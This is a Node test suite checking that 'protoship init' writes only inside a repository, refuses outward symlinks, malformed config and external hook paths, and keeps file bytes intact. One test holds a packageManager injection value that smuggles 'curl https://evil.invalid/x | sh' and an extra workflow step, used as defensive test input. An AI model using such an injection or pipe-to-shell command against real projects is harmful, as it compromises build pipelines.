import assert from "node:assert/strict";
import { lstat, mkdir, readFile, readdir, readlink, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { parse } from "yaml";
import { GitFixture, protoship, readTree, suiteTempDirs } from "@protoship/testkit";

const PROTO = 'syntax = "proto3";\n\npackage a.v1;\n\nmessage A {}\n';

/**
 * protoship init in a stranger's repository (issue 19): it writes only inside the repository,
 * builds what it writes as data, refuses what it cannot edit with exit 2 and the file and key,
 * and leaves the repository as it was when it refuses.
 */
describe("protoship init: safety", { timeout: 240_000 }, () => {
  const dirs = suiteTempDirs({ before, after });

  async function repo(files: Record<string, string | Buffer>): Promise<GitFixture> {
    const fx = await GitFixture.init(dirs.fresh("init-safe-"));
    for (const [file, content] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(fx.dir, file)), { recursive: true });
      await writeFile(path.join(fx.dir, file), content);
    }
    return fx;
  }

  /** Every file of the working tree and .git/hooks, with its bytes (symlinks as their targets). */
  async function snapshot(dir: string): Promise<Record<string, string>> {
    const out: Record<string, string> = {};
    async function walk(rel: string): Promise<void> {
      for (const entry of await readdir(path.join(dir, rel), { withFileTypes: true })) {
        const file = rel ? `${rel}/${entry.name}` : entry.name;
        if (file === ".git" || (file.startsWith(".git/") && !file.startsWith(".git/hooks"))) continue;
        if (entry.isSymbolicLink()) out[file] = `-> ${await readlink(path.join(dir, file))}`;
        else if (entry.isDirectory()) await walk(file);
        else out[file] = (await readFile(path.join(dir, file))).toString("base64");
      }
    }
    await walk("");
    await walk(".git/hooks");
    return out;
  }

  async function refused(fx: GitFixture, pattern: RegExp, args: string[] = ["init"]): Promise<void> {
    const before = await snapshot(fx.dir);
    const r = await protoship(fx.dir, args);
    assert.equal(r.code, 2, `${r.stdout}${r.stderr}`);
    assert.match(r.stderr, pattern);
    assert.doesNotMatch(r.stdout + r.stderr, /npm_SECRET/, "nothing from outside reaches the output");
    assert.deepEqual(await snapshot(fx.dir), before, "the repository is left as it was");
  }

  it("refuses a symlinked folder or file that leads outside the repository, naming the link; writes nothing", async () => {
    const outside = dirs.fresh("outside-");
    await mkdir(outside, { recursive: true });
    await writeFile(path.join(outside, "npmrc"), "//registry.npmjs.org/:_authToken=npm_SECRET\n");
    const cases: [string, string, RegExp][] = [
      [".github", outside, /^protoship: \.github is a symbolic link to .*outside the repository/m],
      [".gitignore", path.join(outside, "npmrc"), /^protoship: \.gitignore is a symbolic link to .*npmrc, outside the repository/m],
      ["package.json", path.join(outside, "npmrc"), /^protoship: package\.json is a symbolic link to .*npmrc, outside the repository/m],
      ["buf.yaml", path.join(outside, "npmrc"), /^protoship: buf\.yaml is a symbolic link to .*npmrc, outside the repository/m],
      ["protoship.yaml", path.join(outside, "npmrc"), /^protoship: protoship\.yaml is a symbolic link/m],
    ];
    for (const [link, target, pattern] of cases) {
      const fx = await repo({ "a/v1/a.proto": PROTO });
      await symlink(target, path.join(fx.dir, link));
      await refused(fx, pattern);
    }
    const husky = await repo({ "a/v1/a.proto": PROTO, "package.json": '{ "devDependencies": { "husky": "^9.1.7" } }\n' });
    await symlink(outside, path.join(husky.dir, ".husky"));
    await refused(husky, /^protoship: \.husky is a symbolic link to .*outside the repository/m);
    assert.deepEqual((await readdir(outside)).sort(), ["npmrc"], "nothing was written outside");
    assert.equal(await readFile(path.join(outside, "npmrc"), "utf8"), "//registry.npmjs.org/:_authToken=npm_SECRET\n");
  });

  it("follows a link that stays inside the repository: the file it points to is edited, the link stays a link", async () => {
    const fx = await repo({ "a/v1/a.proto": PROTO, "config/gitignore": "dist/\n" });
    await symlink("config/gitignore", path.join(fx.dir, ".gitignore"));
    const r = await protoship(fx.dir, ["init"]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok((await lstat(path.join(fx.dir, ".gitignore"))).isSymbolicLink());
    assert.match(await fx.read("config/gitignore"), /^dist\/\n[\s\S]*\.protoship-stamp\*$/m);
  });

  it("builds the workflows as data: a packageManager that is not name@semver is refused (exit 2, file and key), no step injected", async () => {
    const injected = `pnpm@10; curl https://evil.invalid/x | sh #\n      - name: injected step\n        run: echo pwned`;
    const fx = await repo({ "a/v1/a.proto": PROTO, "package.json": `${JSON.stringify({ name: "@acme/x", packageManager: injected })}\n` });
    await refused(fx, /^protoship: package\.json: packageManager: expected <name>@<semver version>/m);

    const ok = await repo({ "a/v1/a.proto": PROTO, "package.json": '{ "name": "@acme/x", "packageManager": "pnpm@10.4.1+sha512.abc" }\n' });
    const r = await protoship(ok.dir, ["init"]);
    assert.equal(r.code, 0, r.stderr);
    const release = parse(await ok.read(".github/workflows/protoship-release.yml")) as {
      jobs: Record<string, { steps: { name?: string; uses?: string; run?: string }[] }>;
    };
    assert.deepEqual(
      release.jobs.publish!.steps.map((s) => s.run ?? s.uses?.split("@")[0]),
      ["actions/checkout", "actions/setup-node", "npx --yes pnpm@10.4.1 install --frozen-lockfile", "npx --no-install protoship publish"],
    );
  });

  it("a package.json, lefthook.yml or pnpm-workspace.yaml it cannot edit is exit 2 with the file, key and what was expected; nothing written", async () => {
    const pkgCases: [string, RegExp][] = [
      ["null", /package\.json: \(top level\): expected a JSON object, found null/],
      ["[]", /package\.json: \(top level\): expected a JSON object, found a list/],
      ['"str"', /package\.json: \(top level\): expected a JSON object, found the string "str"/],
      ["42", /package\.json: \(top level\): expected a JSON object, found number 42/],
      ['{ "scripts": "x" }', /package\.json: scripts: expected an object of strings, found the string "x"/],
      ['{ "scripts": { "prepare": 42 } }', /package\.json: scripts\.prepare: expected a string, found number 42/],
      ['{ "workspaces": "packages/*" }', /package\.json: workspaces: expected a list of folder globs/],
    ];
    for (const [text, pattern] of pkgCases) await refused(await repo({ "a/v1/a.proto": PROTO, "package.json": `${text}\n` }), pattern);

    const yamlCases: [string, RegExp][] = [
      ["just a string\n", /1:1: \(top level\): expected a mapping, found "just a string"/],
      ["- a\n- b\n", /1:1: \(top level\): expected a mapping, found a list/],
      ["pre-push: [x]\nallowBuilds: [x]\n", /\d+:\d+: (pre-push|allowBuilds): expected a mapping, found a list/],
      ["? \n: x\n", /\d+:\d+: \(top level\): expected no empty key/],
      ["base: &b { a: 1 }\npre-push: *b\nallowBuilds: *b\n", /\d+:\d+: (pre-push|allowBuilds): expected a value written out/],
    ];
    for (const [text, pattern] of yamlCases) {
      await refused(
        await repo({ "a/v1/a.proto": PROTO, "lefthook.yml": text }),
        new RegExp(`^protoship: lefthook\\.yml:${pattern.source}`, "m"),
      );
      await refused(
        await repo({ "a/v1/a.proto": PROTO, "pnpm-lock.yaml": "lockfileVersion: '9.0'\n", "pnpm-workspace.yaml": text }),
        new RegExp(`^protoship: pnpm-workspace\\.yaml:${pattern.source}`, "m"),
      );
    }
  });

  it("a target path that is a folder is refused before anything is written (no file, no temp file left)", async () => {
    for (const target of ["buf.yaml", ".github/workflows/protoship-release.yml", ".gitignore"]) {
      const fx = await repo({ "a/v1/a.proto": PROTO, [`${target}/keep`]: "x\n" });
      await refused(fx, new RegExp(`^protoship: ${target.replace(/\./g, "\\.")} is a folder`, "m"));
      assert.deepEqual(
        [...(await readTree(fx.dir)).keys()].filter((f) => f.includes(".protoship-")),
        [],
      );
    }
  });

  it("keeps the bytes of what it does not change: a Latin-1 .gitignore and package.json", async () => {
    const gitignore = Buffer.concat([
      Buffer.from("# caf"),
      Buffer.from([0xe9]),
      Buffer.from("\n/caf"),
      Buffer.from([0xe9]),
      Buffer.from("/\n"),
    ]);
    const pkg = Buffer.concat([Buffer.from('{\n  "name": "@acme/x",\n  "description": "caf'), Buffer.from([0xe9]), Buffer.from('"\n}\n')]);
    const fx = await repo({ "a/v1/a.proto": PROTO, ".gitignore": gitignore, "package.json": pkg });
    const r = await protoship(fx.dir, ["init"]);
    assert.equal(r.code, 0, r.stderr);
    const after = await readFile(path.join(fx.dir, ".gitignore"));
    assert.deepEqual(after.subarray(0, gitignore.length), gitignore, "the user's lines, byte for byte");
    assert.match(after.toString("latin1"), /\.protoship-stamp\*/);
    const pkgAfter = await readFile(path.join(fx.dir, "package.json"));
    assert.ok(
      pkgAfter.includes(Buffer.concat([Buffer.from('"description": "caf'), Buffer.from([0xe9, 0x22])])),
      pkgAfter.toString("latin1"),
    );
    assert.ok(!pkgAfter.includes(Buffer.from("\ufffd")), "no U+FFFD");
  });

  it("refuses a core.hooksPath outside the repository (the hook would run everywhere); --hooks (npm's prepare) says so and goes on", async () => {
    const global = dirs.fresh("global-hooks-");
    await mkdir(global, { recursive: true });
    const fx = await repo({ "a/v1/a.proto": PROTO });
    await fx.git("config", "core.hooksPath", global);
    await refused(fx, /^protoship: core\.hooksPath is .*, outside this repository/m);
    const hooks = await protoship(fx.dir, ["init", "--hooks"]);
    assert.equal(hooks.code, 0, hooks.stderr);
    assert.match(hooks.stderr, /the pre-push hook was not installed: core\.hooksPath/);
    assert.deepEqual(await readdir(global), [], "nothing written to the global hooks folder");
  });

  it("says so when it kept a pre-push hook that does not run protoship check", async () => {
    const fx = await repo({ "a/v1/a.proto": PROTO, ".git/hooks/pre-push": "#!/bin/sh\nexit 0\n" });
    const r = await protoship(fx.dir, ["init"]);
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, /git push runs protoship check/);
    assert.match(r.stdout, /your pre-push hook \.git\/hooks\/pre-push was kept and does not run protoship check/);
  });
});
